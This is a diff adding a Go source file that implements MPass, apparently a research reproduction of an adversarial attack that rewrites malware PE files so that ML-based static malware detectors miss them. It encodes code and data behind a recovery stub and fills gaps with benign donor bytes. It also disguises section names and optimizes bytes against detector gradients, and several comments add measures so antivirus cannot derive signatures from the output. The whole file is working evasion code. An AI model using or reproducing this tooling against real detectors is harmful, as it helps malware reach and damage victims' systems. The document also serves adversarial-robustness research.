@@ -1,0 +1,599 @@
+// Package core implements the MPass attack (§III): a hard-label black-box
+// adversarial attack on ML-based static malware detectors.
+//
+// One attack round follows Figure 1 of the paper:
+//
+//  1. Modify the malware: encode the PEM-critical sections (code and data)
+//     behind a runtime-recovery stub filled from a randomly selected benign
+//     donor, shuffle the stub instructions, add a tail perturbation section
+//     (or overlay), and edit functionality-neutral header fields.
+//  2. Optimize the perturbation against the ensemble of known models:
+//     positions in the optimizable set I are lifted to each model's byte
+//     embedding space, moved along the negative ensemble gradient of
+//     Eq. 3, and mapped back to discrete bytes; every encoded byte's
+//     recovery key moves in lock-step, realizing the mask matrix M and
+//     tuple corpus J of Eq. 2 so functionality is preserved by
+//     construction.
+//  3. Query the hard-label target once. On detection, re-randomize (new
+//     donor, new shuffle) and repeat until bypass or the query budget.
+package core
+
+import (
+	"errors"
+	"fmt"
+	"math/rand"
+	"sort"
+
+	"mpass/internal/detect"
+	"mpass/internal/pefile"
+	"mpass/internal/recovery"
+)
+
+// Oracle is the hard-label black-box target: one bit per query.
+type Oracle interface {
+	Name() string
+	// Detected returns true when the submitted bytes are flagged malicious.
+	Detected(raw []byte) bool
+}
+
+// DetectorOracle adapts any detect.Detector into an Oracle.
+type DetectorOracle struct{ D detect.Detector }
+
+// Name implements Oracle.
+func (o DetectorOracle) Name() string { return o.D.Name() }
+
+// Detected implements Oracle.
+func (o DetectorOracle) Detected(raw []byte) bool { return o.D.Label(raw) }
+
+// CountingOracle wraps an Oracle and counts queries — the AVQ bookkeeping.
+type CountingOracle struct {
+	Oracle
+	Queries int
+}
+
+// Detected implements Oracle, incrementing the query counter.
+func (c *CountingOracle) Detected(raw []byte) bool {
+	c.Queries++
+	return c.Oracle.Detected(raw)
+}
+
+// TailMode selects where the extra perturbation area lives (Figure 2: blue
+// new section vs purple overlay append).
+type TailMode int
+
+const (
+	// TailSection adds a fresh section at the end of the section table.
+	TailSection TailMode = iota
+	// TailOverlay appends raw bytes past the last section instead.
+	TailOverlay
+	// TailNone adds no extra perturbation area.
+	TailNone
+)
+
+// FillMode selects the initial perturbation content.
+type FillMode int
+
+const (
+	// FillDonor uses bytes from a randomly selected benign donor program —
+	// the paper's initialization.
+	FillDonor FillMode = iota
+	// FillRandom uses uniform random bytes (the Table VI ablation).
+	FillRandom
+)
+
+// Config parameterizes an Attacker.
+type Config struct {
+	// Known is the ensemble of differentiable known models (the paper
+	// excludes LightGBM here, footnote 6).
+	Known []detect.GradientModel
+	// Donors are benign programs used for initial perturbations.
+	Donors [][]byte
+	// CriticalSections names the sections to encode via runtime recovery.
+	// Empty selects every code and initialized-data section, matching the
+	// PEM finding that code and data dominate.
+	CriticalSections []string
+	// MaxQueries is the hard-label query budget per sample (paper: 100).
+	MaxQueries int
+	// Iterations is γ, the optimization steps per round (paper: 50).
+	Iterations int
+	// PositionsPerIter bounds how many byte positions move per step.
+	PositionsPerIter int
+	// Shuffle enables the stub shuffle strategy.
+	Shuffle bool
+	// HeaderEdits enables timestamp/section-name perturbations.
+	HeaderEdits bool
+	// Tail selects the extra perturbation area.
+	Tail TailMode
+	// TailLen is the tail area size in bytes.
+	TailLen int
+	// Fill selects donor-based or random initialization.
+	Fill FillMode
+	// SkipOptimize disables step 2 entirely (random-data ablation).
+	SkipOptimize bool
+	// Seed drives all attack randomness.
+	Seed int64
+}
+
+// DefaultConfig mirrors the paper's hyperparameters.
+func DefaultConfig(known []detect.GradientModel, donors [][]byte) Config {
+	return Config{
+		Known:            known,
+		Donors:           donors,
+		MaxQueries:       100,
+		Iterations:       50,
+		PositionsPerIter: 1024,
+		Shuffle:          true,
+		HeaderEdits:      true,
+		Tail:             TailSection,
+		TailLen:          512,
+		Fill:             FillDonor,
+	}
+}
+
+// Result reports one attack run.
+type Result struct {
+	Success bool
+	AE      []byte // the adversarial example (valid PE), nil on failure
+	Queries int
+	Rounds  int
+}
+
+// Attacker runs MPass attacks with a fixed configuration.
+type Attacker struct {
+	cfg Config
+	rng *rand.Rand
+}
+
+// Errors returned by Attack.
+var (
+	ErrNoDonors = errors.New("core: donor-fill attack needs at least one donor")
+	ErrNoBudget = errors.New("core: query budget must be positive")
+)
+
+// New validates the configuration and returns an Attacker.
+func New(cfg Config) (*Attacker, error) {
+	if cfg.MaxQueries <= 0 {
+		return nil, ErrNoBudget
+	}
+	if cfg.Fill == FillDonor && len(cfg.Donors) == 0 {
+		return nil, ErrNoDonors
+	}
+	if cfg.Iterations <= 0 {
+		cfg.Iterations = 50
+	}
+	if cfg.PositionsPerIter <= 0 {
+		cfg.PositionsPerIter = 1024
+	}
+	if cfg.TailLen <= 0 {
+		cfg.TailLen = 512
+	}
+	return &Attacker{cfg: cfg, rng: rand.New(rand.NewSource(cfg.Seed))}, nil
+}
+
+// Attack generates an adversarial example for the original malware bytes
+// against the hard-label target.
+func (a *Attacker) Attack(original []byte, target Oracle) (*Result, error) {
+	res := &Result{}
+	for res.Queries < a.cfg.MaxQueries {
+		res.Rounds++
+		// The tail perturbation area escalates across failed rounds: if
+		// content-level evasion alone does not flip the target, more benign
+		// context is appended — the same channel the paper's "new section"
+		// position provides (APR is only accounted for successful AEs).
+		tailLen := a.cfg.TailLen * (1 + (res.Rounds-1)/2)
+		if tailLen > 24*a.cfg.TailLen {
+			tailLen = 24 * a.cfg.TailLen
+		}
+		ae, err := a.buildCandidate(original, tailLen)
+		if err != nil {
+			return nil, fmt.Errorf("core: round %d: %w", res.Rounds, err)
+		}
+		res.Queries++
+		if !target.Detected(ae) {
+			res.Success = true
+			res.AE = ae
+			return res, nil
+		}
+	}
+	return res, nil
+}
+
+// buildCandidate runs steps 1–2 of the round: modification + optimization.
+func (a *Attacker) buildCandidate(original []byte, tailLen int) ([]byte, error) {
+	if tailLen <= 0 {
+		tailLen = a.cfg.TailLen
+	}
+	f, err := pefile.Parse(original)
+	if err != nil {
+		return nil, err
+	}
+
+	fill := a.fillFunc(f)
+	lay, err := recovery.Build(f, recovery.Options{
+		Sections: a.criticalSections(f),
+		Fill:     fill,
+		Shuffle:  a.cfg.Shuffle,
+		Rng:      a.rng,
+	})
+	if err != nil {
+		return nil, err
+	}
+
+	// Extra perturbation area (Figure 2 blue/purple regions).
+	var tailSection string
+	switch a.cfg.Tail {
+	case TailSection:
+		tailSection = freeSectionName(f, a.rng)
+		if _, err := f.AddSection(tailSection, fill(tailSection, tailLen), pefile.SecCharacteristicsRsrc); err != nil {
+			return nil, err
+		}
+	case TailOverlay:
+		f.AppendOverlay(fill("", tailLen))
+	}
+
+	// Header edits (grey region): timestamp and the stub section's name.
+	if a.cfg.HeaderEdits {
+		f.SetTimestamp(uint32(a.rng.Int31()))
+		if name := freeStandardName(f, a.rng); name != "" {
+			// Renaming the stub to an unused toolchain-standard name keeps
+			// the section table looking mundane; the choice is randomized
+			// so the rename itself is not a constant artifact.
+			if err := f.RenameSection(lay.StubSection, name); err != nil {
+				return nil, err
+			}
+			lay.StubSection = name
+		}
+	}
+
+	f.Layout()
+	raw := f.Bytes()
+	if a.cfg.SkipOptimize || len(a.cfg.Known) == 0 {
+		return raw, nil
+	}
+
+	positions, keyOf := a.optimizablePositions(f, lay, tailSection, len(raw))
+	a.optimize(raw, positions, keyOf)
+	return raw, nil
+}
+
+// criticalSections maps the configured critical-section names onto the
+// sample, defaulting to all code and initialized-data sections.
+func (a *Attacker) criticalSections(f *pefile.File) []string {
+	if len(a.cfg.CriticalSections) > 0 {
+		var present []string
+		for _, name := range a.cfg.CriticalSections {
+			if f.SectionByName(name) != nil {
+				present = append(present, name)
+			}
+		}
+		return present
+	}
+	var out []string
+	for _, s := range f.Sections {
+		if s.IsCode() || s.Characteristics&pefile.SecInitializedData != 0 {
+			out = append(out, s.Name)
+		}
+	}
+	return out
+}
+
+// fillFunc returns the initial-perturbation source for this round. Donor
+// fill is class-aware — code sections receive bytes from the donors' code
+// sections, everything else from their data sections — so the modified
+// sample keeps a benign per-section byte profile (a code section full of
+// string data is itself an anomaly feature detectors notice).
+//
+// It interleaves variable-length chunks from a handful of randomly chosen
+// donors at random offsets: with the paper's 50,000-donor pool every AE's
+// filler is unique by construction, and chunk mixing reproduces that
+// pairwise uniqueness at this repository's pool sizes (no two AEs share a
+// long filler run an adaptive AV could mine as a signature). Long zero
+// runs are capped: a zero fill would make the recovery key the byte-wise
+// negation of the covered malware content, and family-shared literals
+// would then leak as identical key runs across AEs.
+func (a *Attacker) fillFunc(f *pefile.File) recovery.FillFunc {
+	if a.cfg.Fill == FillRandom {
+		return func(_ string, n int) []byte {
+			b := make([]byte, n)
+			a.rng.Read(b)
+			return b
+		}
+	}
+	nd := 3
+	if nd > len(a.cfg.Donors) {
+		nd = len(a.cfg.Donors)
+	}
+	var codeParts, dataParts [][]byte
+	byName := make(map[string][][]byte)
+	for i := 0; i < nd; i++ {
+		donor := a.cfg.Donors[a.rng.Intn(len(a.cfg.Donors))]
+		df, err := pefile.Parse(donor)
+		if err != nil {
+			// Non-PE donor content is still usable, typed as data.
+			dataParts = append(dataParts, donor)
+			continue
+		}
+		for _, sec := range df.Sections {
+			if len(sec.Data) == 0 {
+				continue
+			}
+			byName[sec.Name] = append(byName[sec.Name], sec.Data)
+			if sec.IsCode() {
+				codeParts = append(codeParts, sec.Data)
+			} else {
+				dataParts = append(dataParts, sec.Data)
+			}
+		}
+	}
+	if len(codeParts) == 0 {
+		codeParts = dataParts
+	}
+	if len(dataParts) == 0 {
+		dataParts = codeParts
+	}
+	codeFill := a.newChunkFiller(codeParts)
+	dataFill := a.newChunkFiller(dataParts)
+	// Same-named donor sections give the closest byte profile (benign
+	// .data content for the victim's .data, and so on); class-matched
+	// content is the fallback.
+	named := make(map[string]func(int) []byte)
+	return func(section string, n int) []byte {
+		if section == "" { // recovery stub filler: executable context
+			return codeFill(n)
+		}
+		if parts, ok := byName[section]; ok {
+			fn, ok2 := named[section]
+			if !ok2 {
+				fn = a.newChunkFiller(parts)
+				named[section] = fn
+			}
+			return fn(n)
+		}
+		if sec := f.SectionByName(section); sec != nil && sec.IsCode() {
+			return codeFill(n)
+		}
+		return dataFill(n)
+	}
+}
+
+// newChunkFiller draws 24–71-byte chunks from the given content parts with
+// zero runs capped at twelve bytes — short enough that a 24-byte mining
+// window over a zero run always includes at least 12 bytes of AE-unique
+// content, long enough to keep the fill's zero mass (and so its entropy
+// profile) close to genuine benign sections.
+func (a *Attacker) newChunkFiller(parts [][]byte) func(n int) []byte {
+	cur := parts[a.rng.Intn(len(parts))]
+	cursor := a.rng.Intn(len(cur))
+	left := 24 + a.rng.Intn(48)
+	zeroRun := 0
+	return func(n int) []byte {
+		out := make([]byte, n)
+		for i := range out {
+			if left == 0 {
+				cur = parts[a.rng.Intn(len(parts))]
+				cursor = a.rng.Intn(len(cur))
+				left = 24 + a.rng.Intn(48)
+			}
+			b := cur[cursor%len(cur)]
+			if b == 0 {
+				zeroRun++
+				if zeroRun >= 12 {
+					// Hop to a fresh, content-bearing position so runs
+					// never extend past the cap.
+					for tries := 0; tries < 32; tries++ {
+						cursor = a.rng.Intn(len(cur))
+						if cur[cursor%len(cur)] != 0 {
+							break
+						}
+					}
+					b = cur[cursor%len(cur)]
+					zeroRun = 0
+				}
+			} else {
+				zeroRun = 0
+			}
+			out[i] = b
+			cursor++
+			left--
+		}
+		return out
+	}
+}
+
+// freeSectionName returns a random unused section name.
+func freeSectionName(f *pefile.File, rng *rand.Rand) string {
+	const letters = "abcdefghijklmnopqrstuvwxyz"
+	for {
+		b := []byte{'.', 0, 0, 0}
+		for i := 1; i < len(b); i++ {
+			b[i] = letters[rng.Intn(len(letters))]
+		}
+		if f.SectionByName(string(b)) == nil {
+			return string(b)
+		}
+	}
+}
+
+// freeStandardName returns a random standard toolchain section name not yet
+// used in the file, or "".
+func freeStandardName(f *pefile.File, rng *rand.Rand) string {
+	names := []string{".reloc", ".bss", ".tls", ".edata", ".pdata", ".xdata", ".didat", ".crt"}
+	rng.Shuffle(len(names), func(i, j int) { names[i], names[j] = names[j], names[i] })
+	for _, name := range names {
+		if f.SectionByName(name) == nil {
+			return name
+		}
+	}
+	return ""
+}
+
+// optimizablePositions collects the file offsets the optimizer may write
+// (the set I) and the byte→key coupling (the tuple corpus J), both in file
+// offsets of the serialized image.
+func (a *Attacker) optimizablePositions(f *pefile.File, lay *recovery.Layout, tailSection string, rawLen int) (positions []int, keyOf map[int]int) {
+	keyOf = make(map[int]int)
+	vaOff := func(va uint32) (int, bool) {
+		off, ok := f.RVAToOffset(va)
+		return int(off), ok
+	}
+	for _, r := range lay.Regions {
+		base, ok1 := vaOff(r.VA)
+		keyBase, ok2 := vaOff(r.KeyVA)
+		if !ok1 || !ok2 {
+			continue
+		}
+		for i := 0; i < r.Len; i++ {
+			positions = append(positions, base+i)
+			keyOf[base+i] = keyBase + i
+		}
+	}
+	for _, g := range lay.Gaps {
+		base, ok := vaOff(g.VA)
+		if !ok {
+			continue
+		}
+		for i := 0; i < g.Len; i++ {
+			positions = append(positions, base+i)
+		}
+	}
+	if tailSection != "" {
+		if s := f.SectionByName(tailSection); s != nil {
+			base := int(s.PointerToRawData)
+			for i := 0; i < len(s.Data); i++ {
+				positions = append(positions, base+i)
+			}
+		}
+	}
+	if a.cfg.Tail == TailOverlay {
+		f.Layout()
+		start := f.Size() - len(f.Overlay)
+		for i := start; i < rawLen; i++ {
+			positions = append(positions, i)
+		}
+	}
+	return positions, keyOf
+}
+
+// optimize runs the embedding-space transfer optimization (Eq. 3) in place
+// on raw. Each iteration computes the summed input gradient over the known
+// models, ranks the optimizable positions by gradient mass, and replaces
+// the byte at each selected position with the byte whose embedding minimizes
+// the linearized ensemble loss; coupled recovery keys shift by the same
+// delta (Eq. 2's M matrix), so the candidate stays function-preserving.
+func (a *Attacker) optimize(raw []byte, positions []int, keyOf map[int]int) {
+	models := a.cfg.Known
+	for iter := 0; iter < a.cfg.Iterations; iter++ {
+		gs := make([]modelGrad, len(models))
+		bypassAll := true
+		for mi, m := range models {
+			ig := m.InputGradient(raw, 0)
+			gs[mi] = modelGrad{g: ig.Grad, dim: m.EmbedDim(), seqLen: m.SeqLen()}
+			if ig.Score >= 0.5 {
+				bypassAll = false
+			}
+		}
+		if bypassAll {
+			return // every known model already says benign
+		}
+
+		// Rank positions by total gradient mass across the ensemble.
+		ranked := make([]posMass, 0, len(positions))
+		for _, p := range positions {
+			var mass float64
+			for mi := range gs {
+				if p >= gs[mi].seqLen {
+					continue
+				}
+				d := gs[mi].dim
+				for _, v := range gs[mi].g[p*d : (p+1)*d] {
+					mass += v * v
+				}
+			}
+			if mass > 0 {
+				ranked = append(ranked, posMass{pos: p, mass: mass})
+			}
+		}
+		if len(ranked) == 0 {
+			return // perturbable area is outside every model's window
+		}
+		sort.Slice(ranked, func(i, j int) bool { return ranked[i].mass > ranked[j].mass })
+		if len(ranked) > a.cfg.PositionsPerIter {
+			ranked = ranked[:a.cfg.PositionsPerIter]
+		}
+
+		changed := false
+		scores := make([]float64, 256)
+		for _, pm := range ranked {
+			p := pm.pos
+			for b := 0; b < 256; b++ {
+				scores[b] = byteScore(gs, models, p, byte(b))
+			}
+			// Choose uniformly among the near-optimal bytes rather than the
+			// strict argmin: a deterministic argmin makes independent AEs
+			// converge to identical "maximally benign" byte runs, which an
+			// adaptive AV could mine as a signature. The tolerance keeps
+			// the linearized loss within a whisker of optimal.
+			best := 0
+			for b := 1; b < 256; b++ {
+				if scores[b] < scores[best] {
+					best = b
+				}
+			}
+			cur := scores[raw[p]]
+			if scores[best] >= cur {
+				continue // current byte is already optimal
+			}
+			tol := (cur - scores[best]) * 0.05
+			var cands []byte
+			for b := 0; b < 256; b++ {
+				if scores[b] <= scores[best]+tol {
+					cands = append(cands, byte(b))
+				}
+			}
+			pick := cands[a.rng.Intn(len(cands))]
+			if pick != raw[p] {
+				delta := pick - raw[p]
+				raw[p] = pick
+				if k, ok := keyOf[p]; ok {
+					raw[k] += delta // keep x = b − k invariant
+				}
+				changed = true
+			}
+		}
+		if !changed {
+			return // linearization has converged
+		}
+	}
+}
+
+// modelGrad caches one known model's input gradient for an iteration.
+type modelGrad struct {
+	g      []float64
+	dim    int
+	seqLen int
+}
+
+// posMass ranks a byte position by its ensemble gradient mass.
+type posMass struct {
+	pos  int
+	mass float64
+}
+
+// byteScore is the linearized ensemble loss of placing byte b at position
+// p: Σ_m <∇_m[p], embed_m[b]>. Minimizing it over b is the paper's
+// "map the optimized feature vector back to discrete bytes" step.
+func byteScore(gs []modelGrad, models []detect.GradientModel, p int, b byte) float64 {
+	var s float64
+	for mi, m := range models {
+		if p >= gs[mi].seqLen {
+			continue
+		}
+		d := gs[mi].dim
+		seg := gs[mi].g[p*d : (p+1)*d]
+		row := m.EmbedRow(b)
+		for k, v := range seg {
+			s += v * row[k]
+		}
+	}
+	return s
+}
